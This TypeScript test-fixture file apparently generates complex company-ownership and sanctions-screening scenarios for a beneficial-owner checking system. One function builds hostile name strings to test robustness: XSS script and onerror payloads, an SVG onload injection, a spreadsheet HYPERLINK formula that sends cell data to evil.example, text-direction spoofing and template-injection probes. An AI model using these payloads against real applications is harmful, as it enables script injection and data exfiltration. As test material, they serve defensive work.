import { drawFrom } from '../../seed.ts';
import type { Session, Wire } from '../../session.ts';
import { type Company, company } from '../companies/company.ts';
import type { OwnerPerson } from '../companies/owners.ts';
import { fullName, type PersonOptions, person } from '../persons/person.ts';
import { hit, pepFields, sanctionFields } from '../screening.ts';
import { groupWire } from './owner-group.ts';
import { holdings, ownership, reported, screenedOwner } from './ownership.ts';

/** Ownership structures with several chains, loops, or too many nodes to check by hand. */
export function structureSituations(todayMs: number): Session[] {
  const owned = (tag: string, ...lines: readonly string[]) => ownership(tag, holdings(...lines), todayMs);
  return [
    ...diamond(todayMs),
    owned(
      'ubo-four-levels',
      ...['A>root 60', 'q>root 40', 'B>A 50', 's>A 50', 'C>B 80', 't>B 20', 'D>C 90', 'u>C 10', 'p>D 75', 'v>D 25'],
    ),
    owned(
      'ubo-cross-holdings',
      ...['A>root 60', 'B>root 25', 'p>root 15', 'B>A 42', 'q>A 58', 'A>B 30', 'C>B 20', 's>B 50', 't>C 100'],
    ),
    owned('ubo-two-roots', 'p>Y 60', 'q>Y 40', 'p>Z 30', 's>Z 70'),
    owned('ubo-ambiguous-unit', 'p>root 0.6', 'q>root 0.3', 'A>root 0.05', 's>A 0.4'),
    owned('ubo-self-owned', 'A>root 70', 'p>root 30', 'A>A 100'),
    massDirector(todayMs),
    ...sanctionsTiers(todayMs),
    hostileNames(todayMs),
    ...group400(todayMs),
    group10000(todayMs),
  ];
}

type Found = 'nothing' | 'pep' | 'sanction';

/** A person whose own session the company's key reads. */
function knownOwner(
  seed: string,
  todayMs: number,
  found: Found,
  known: PersonOptions = {},
): { readonly person: OwnerPerson; readonly session: Session } {
  const draw = drawFrom(`known owner:${seed}`);
  const who = person(seed, todayMs, known);
  const listed = { name: fullName(who), birthDate: who.birthDate, nationality: who.culture.code };
  const hits: Record<Found, readonly Wire[]> = {
    nothing: [],
    pep: [hit({ ...listed, types: ['PEP'], fields: pepFields('Minister of harbours', '2021-02', null) })],
    sanction: [hit({ ...listed, types: ['SANCTION'], fields: sanctionFields(draw, 210, todayMs) })],
  };
  const session = screenedOwner(who, hits[found], draw, todayMs);
  return { person: { who, session, ultimate: false }, session };
}

/** Two chains lead from one person to the company: 20 % and 15 %, a beneficial owner only by both. */
function diamond(todayMs: number): Session[] {
  const tag = 'ubo-diamond';
  const { person: p, session } = knownOwner(`${tag} p`, todayMs, 'nothing', { country: 'PRT', sex: 'F' });
  const lines = ['A>root 50', 'B>root 30', 'q>root 20', 'p>A 40', 'q>A 60', 'p>B 50', 'q>B 50'];
  return [session, ownership(tag, holdings(...lines), todayMs, { people: { p } })];
}

/** Half, of half, of half: 12.5 % in effect, and half at every tier. */
function sanctionsTiers(todayMs: number): Session[] {
  const tag = 'ubo-sanctions-tiers';
  const { person: x, session } = knownOwner(`${tag} x`, todayMs, 'sanction', { country: 'UTO' });
  const lines = ['A>root 50', 'q>root 50', 'B>A 50', 's>A 50', 'x>B 50', 't>B 50'];
  return [session, ownership(tag, holdings(...lines), todayMs, { people: { x } })];
}

/** One person is director of the company and of thirty of its owners, without any share. */
function massDirector(todayMs: number): Session {
  const each = Array.from({ length: 30 }, (_, index) => index + 1);
  return ownership(
    'ubo-mass-director',
    holdings(
      'd>root 0 director',
      ...each.flatMap((n) => [`C${n}>root 3.3`, `p${n}>C${n} 100`, `d>C${n} 0 director`]),
      'p1>root 1',
    ),
    todayMs,
  );
}

const full = (text: string, length = 300) => text.repeat(Math.ceil(length / text.length)).slice(0, length);
const zalgo = [...'Zalgo Holdings'].map((letter) => `${letter}${full('\u0335\u0301\u0323\u0489', 21)}`).join('');

/** Names of 300 characters and more that reverse text, are invisible, overlap, break lines, or contain markup. */
function hostileNames(todayMs: number): Session {
  const tag = 'ubo-hostile-names';
  const names: Readonly<Record<string, string>> = {
    a: full('<script>alert(1)</script><img src=x onerror=alert(2)>'),
    b: full('\u202Egnp.rewop fo egelivirp\u202C \u2066evil\u2069 '),
    c: full('Ma\u200Bri\u200Da\uFEFF\u2060 Si\u00ADlva '),
    d: full('=HYPERLINK("http://evil.example/?"&A1,"open") '),
    e: full('شركة الوادي للتجارة '),
    f: full('line one\r\nline two\u0000\u001b[31m\u0007 '),
    g: 'W'.repeat(400),
    h: full('👩🏽‍🚀🏴󠁧󠁢󠁷󠁬󠁳󠁿'),
    i: `broken \uD83D half \uDE00 ${full(']]>&lt;/text><![CDATA[')}`,
  };
  const firmNames: Readonly<Record<string, string>> = {
    A: zalgo,
    B: full('</text></svg><foreignObject onload="alert(3)">'),
    C: full('\u2028\u2029\u061C\u200F\u202B"\'`;{{7*7}} '),
  };
  const people = Object.fromEntries(
    Object.entries(names).map(([key, firstname]) => {
      const who = { ...person(`${tag} ${key}`, todayMs), firstname, lastname: '' };
      return [key, { who }];
    }),
  );
  const firms = Object.fromEntries(
    Object.entries(firmNames).map(([key, name]) => [key, { firm: company(`${tag} ${key}`, { name }) }]),
  );
  const held = [...Object.keys(people).map((key) => `${key}>A 11`), 'A>root 40', 'B>root 30', 'C>root 30', 'b>B 100'];
  return ownership(tag, holdings(...held, 'c>C 100'), todayMs, { people, firms });
}

/** Four hundred nodes on five levels. */
function group400(todayMs: number): Session[] {
  const tag = 'ubo-group-400';
  const firm = company(tag);
  const founder = knownOwner(`${tag} founder`, todayMs, 'nothing', { country: 'SWE' });
  const politician = knownOwner(`${tag} politician`, todayMs, 'pep', { country: 'GEO' });
  const listed = knownOwner(`${tag} listed`, todayMs, 'sanction', { country: 'UTO' });
  const people = { founder: founder.person, politician: politician.person, listed: listed.person };
  const wire = groupWire({
    seed: tag,
    todayMs,
    firm,
    levels: [6, 20, 34, 30, 20],
    persons: 289,
    people: { ...people, ...Object.fromEntries([3, 57, 140, 200].map((n) => [`p${n}`, { ultimate: true }])) },
    fixed: {
      'K0>root': 40,
      'K1>root': 20,
      'founder>K0': 60,
      'founder>K1': 55,
      'politician>K0': 15,
      'listed>K7': 52,
    },
    directors: 12,
    missing: 4,
    hasDocuments: true,
  });
  const sessions = [founder, politician, listed].map(({ session }) => session);
  return [...sessions, reported(tag, wire, todayMs, firm, 'PENDING_VERIFICATION')];
}

/** Ten thousand nodes, created on the first request. */
function group10000(todayMs: number): Session {
  const tag = 'ubo-10000';
  const firm = company(tag);
  return reported(tag, laterGroup(tag, todayMs, firm), todayMs, firm);
}

function laterGroup(seed: string, todayMs: number, firm: Company): Wire {
  let made: Wire | undefined;
  const wire = () => {
    made ??= groupWire({
      seed,
      todayMs,
      firm,
      levels: [8, 40, 150, 350, 451],
      persons: 9_000,
      fixed: { 'K0>root': 45 },
      directors: 200,
      missing: 40,
    });
    return made;
  };
  return {
    get individuals() {
      return wire().individuals;
    },
    get corporates() {
      return wire().corporates;
    },
  };
}
